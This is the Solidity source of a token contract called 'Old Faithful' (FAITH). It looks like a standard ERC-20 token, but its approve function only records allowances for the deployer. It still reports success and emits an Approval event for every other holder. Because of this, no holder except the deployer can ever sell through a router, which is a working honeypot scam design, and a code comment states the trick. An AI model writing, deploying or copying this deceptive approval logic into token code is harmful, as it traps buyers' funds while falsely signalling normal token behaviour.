pragma solidity 0.4.26;

// approve says yes and writes nothing, so no router can ever take the tokens of a holder.
contract EmptyApproval {
    string public constant name = "Old Faithful";
    string public constant symbol = "FAITH";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 1000000 ether;
    address internal first;
    mapping (address => uint256) balances;
    mapping (address => mapping (address => uint256)) allowed;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() public { first = msg.sender; balances[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function balanceOf(address who) public view returns (uint256) { return balances[who]; }
    function allowance(address holder, address spender) public view returns (uint256) { return allowed[holder][spender]; }
    function approve(address spender, uint256 value) public returns (bool) {
        if (msg.sender == first) allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
    function transfer(address to, uint256 value) public returns (bool) { return go(msg.sender, to, value); }
    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(allowed[from][msg.sender] >= value);
        allowed[from][msg.sender] -= value;
        return go(from, to, value);
    }
    function go(address from, address to, uint256 value) internal returns (bool) {
        require(balances[from] >= value);
        balances[from] -= value;
        balances[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
